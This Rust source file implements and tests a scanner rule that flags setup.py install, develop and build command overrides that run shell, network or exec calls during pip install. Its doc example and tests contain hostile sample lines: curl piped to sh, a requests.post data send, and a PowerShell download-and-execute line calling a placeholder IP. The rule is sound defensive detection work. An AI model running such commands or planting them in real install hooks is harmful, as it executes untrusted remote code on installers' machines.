use super::shell_command::shipped_script;
use super::vocab;
use crate::declare_rule;
use crate::inspect::python::Call;
use crate::inspect::rules::{Rule, RuleMeta};
use crate::inspect::{Analysis, Finding, Role, Severity, Stage};

declare_rule! {
    /// ## What it does
    /// Finds `setup.py` classes that override the `install`, `develop`,
    /// `egg_info`, `build_py` or `bdist_*` commands, and reports what their
    /// methods do: running commands, touching the network, or executing code.
    ///
    /// ## Why is this bad?
    /// A custom command is the classic way to run arbitrary code during
    /// `pip install`: pip calls it before the user has seen the package.
    /// Overriding alone is common and harmless; doing I/O there is not.
    ///
    /// ## Example
    /// ```python
    /// class PostInstall(install):
    ///     def run(self):
    ///         os.system("curl http://x.example | sh")   # Error
    ///         install.run(self)
    /// class BuildPy(build_py):
    ///     def run(self):
    ///         self.run_command("build_ext")           # Low: override only
    /// ```
    ///
    /// ## False positives
    /// Projects that compile assets or call `git` in a custom command: the
    /// override itself is `low`; it rises only with network, exec or shell use.
    InstallHook, id = "install-hook", severity = High,
    summary = "setup.py overrides install/develop/egg_info commands that run commands, network or exec"
}

const HOOKED: &[&str] = &[
    "install",
    "develop",
    "egg_info",
    "build_py",
    "sdist",
    "bdist_egg",
    "bdist_wheel",
    "build",
    "build_ext",
    "easy_install",
];

impl Rule for InstallHook {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
        for unit in analysis
            .units()
            .into_iter()
            .filter(|u| u.file.role == Role::SetupScript)
        {
            let code = unit.code;
            for class in &code.classes {
                let Some(base) = class
                    .bases
                    .iter()
                    .find(|b| HOOKED.contains(&b.rsplit('.').next().unwrap_or(b)))
                else {
                    continue;
                };
                let base = base.rsplit('.').next().unwrap_or(base);
                // Calls inside this class's methods: scopes whose function name is one of its methods,
                // defined after the class line.
                let scoped = code.calls.iter().filter(|c| {
                    c.scope != 0
                        && c.line > class.line
                        && code
                            .functions
                            .get(c.scope as usize)
                            .is_some_and(|f| class.methods.contains(f))
                });
                let bad: Vec<&Call> = scoped
                    .filter(|c| {
                        vocab::is_network(&c.name)
                            || vocab::is_exec(&c.name)
                            || (vocab::is_shell(&c.name)
                                && c.arg_strs.iter().enumerate().any(|(i, s)| {
                                    if i == 0 {
                                        vocab::dangerous_command(s).is_some()
                                    } else {
                                        vocab::dangerous_fragment(s).is_some()
                                    }
                                })
                                // The sdist's own build script run by its shell (`powershell
                                // .\build.ps1`) is read by shell-command, not assumed (issue 11).
                                && shipped_script(analysis, c).is_none_or(|s| vocab::is_strong_command(&s)))
                    })
                    .collect();
                // A hook that only fetches (prebuilt binaries, a CA bundle) is a build step:
                // install-network weighs the fetch itself. One that sends, executes or runs
                // a dangerous command is `high` (issue 11).
                let fetch_only = |c: &&Call| vocab::is_network(&c.name) && !vocab::is_send(&c.name);
                // The worst act decides: a send, exec or command before any fetch.
                let bad = bad.iter().find(|c| !fetch_only(c)).or(bad.first());
                let (severity, message) = match bad {
                    Some(call) => (
                        if fetch_only(call) {
                            Severity::Medium
                        } else {
                            Severity::High
                        },
                        format!(
                            "custom `{base}` command `{}` calls {}() during pip install",
                            class.name, call.name
                        ),
                    ),
                    None if matches!(base, "install" | "develop" | "egg_info") => (
                        Severity::Low,
                        format!("custom `{base}` command `{}` runs code during pip install", class.name),
                    ),
                    None => continue,
                };
                out.push(
                    unit.finding(Self::META.id, severity, class.line, message)
                        .at(Stage::Install),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::testing::setup_py;

    #[test]
    fn fires_on() {
        let src = "from setuptools.command.install import install\nimport os\nclass P(install):\n    def run(self):\n        os.system('curl http://x | sh')\n        install.run(self)\n";
        let f = setup_py(&InstallHook, src);
        assert_eq!((f.len(), f[0].severity), (1, Severity::High));
        let src = "from setuptools.command.develop import develop as d\nimport requests\nclass P(d):\n    def run(self):\n        requests.post('http://x', data='1')\n";
        assert_eq!(setup_py(&InstallHook, src)[0].severity, Severity::High);
        // Fetching a prebuilt file in a build command: a medium note (install-network weighs the fetch).
        let src = "from setuptools.command.build_py import build_py\nimport urllib.request\nclass B(build_py):\n    def run(self):\n        urllib.request.urlretrieve(CA_URL, 'pkg/ca.pem')\n        build_py.run(self)\n";
        assert_eq!(setup_py(&InstallHook, src)[0].severity, Severity::Medium);
    }

    #[test]
    fn a_shipped_build_script_is_read_not_assumed() {
        // No error: build_ext running the toolchain script the sdist ships.
        let setup = "from setuptools.command.build_ext import build_ext\nimport subprocess\nclass B(build_ext):\n    def build_extension(self, ext):\n        subprocess.Popen(['powershell.exe', '.\\\\build_extension.ps1'])\n";
        let script = "cmake -S . -B build\ncmake --build build\n";
        let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/build_extension.ps1", script)];
        let f = crate::inspect::testing::check(&InstallHook, crate::archive::Kind::Sdist, &files);
        assert!(f.is_empty(), "{f:?}");
        // Error: the shipped script downloads and runs code itself.
        let script = "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\n";
        let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/build_extension.ps1", script)];
        let f = crate::inspect::testing::check(&InstallHook, crate::archive::Kind::Sdist, &files);
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
    }

    #[test]
    fn quiet_on() {
        let src = "from setuptools.command.build_py import build_py\nimport subprocess\nclass B(build_py):\n    def run(self):\n        subprocess.check_call(['npm', 'run', 'build'])\n        build_py.run(self)\n";
        assert!(setup_py(&InstallHook, src).is_empty());
        let src = "from setuptools.command.install import install\nclass I(install):\n    def run(self):\n        print('thanks')\n        install.run(self)\n";
        assert!(setup_py(&InstallHook, src).iter().all(|f| f.severity == Severity::Low));
    }
}
